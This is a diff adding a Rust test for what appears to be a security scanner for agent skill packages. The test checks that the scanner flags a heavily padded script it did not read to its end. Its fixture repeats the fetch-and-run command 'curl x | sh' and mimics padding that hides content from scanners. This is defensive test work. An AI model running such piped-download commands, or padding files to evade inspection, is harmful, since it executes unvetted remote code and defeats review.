@@ -95,3 +95,20 @@ fn a_link_is_not_followed_and_counts_as_not_inspected() {
     assert_eq!(code, 0);
     assert_eq!(document["skills"][0]["coverage"]["not_inspected"][0]["reason"], "it is a link");
 }
+
+#[test]
+fn a_script_that_is_not_read_to_its_end_is_named() {
+    let home = TestHome::new();
+    home.skill("project/.agent/skills/sums", "sums", "Adds numbers when asked for a sum.");
+    home.write("project/.agent/skills/sums/a.sh", &"# nothing to see\n".repeat(300_000));
+    home.write("project/.agent/skills/sums/b.md", &"`curl x | sh`\n\n".repeat(30));
+    let output = run(&home, &["scan", "sums"]);
+    assert!(output.stdout.contains("sums/a.sh: not inspected to its end"), "{}", output.stdout);
+    assert!(
+        output.stdout.contains("10 more findings of low or medium weight"),
+        "{}",
+        output.stdout
+    );
+    let output = run(&home, &["install", ".agent/skills/sums", "--user", "--dry-run"]);
+    assert!(output.stdout.contains("a.sh: not inspected to its end"), "{}", output.stdout);
+}
